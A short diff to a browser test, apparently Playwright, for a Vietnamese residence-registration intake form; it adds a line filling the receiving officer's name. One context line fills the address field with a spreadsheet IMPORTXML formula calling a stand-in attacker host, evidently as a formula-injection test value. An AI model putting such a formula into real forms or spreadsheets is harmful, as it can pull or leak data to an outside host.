@@ -93,6 +93,7 @@ describeBrowser('sidebars in Chromium', () => {
     await page.getByLabel('Địa chỉ').fill('=IMPORTXML("http://evil.example","//a")');
     await page.getByLabel('Điện thoại').fill('+84 912 345 678');
     await page.getByLabel('Giấy tờ đã nhận').fill('Tờ khai thay đổi thông tin cư trú');
+    await page.getByLabel('Người tiếp nhận (họ tên, in ở chỗ ký)').fill('Lê Thị Thu');
     await page.screenshot({ path: `${SHOTS}/intake-form.png`, fullPage: true });
     await fitsSidebar(page);
     await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).dblclick();
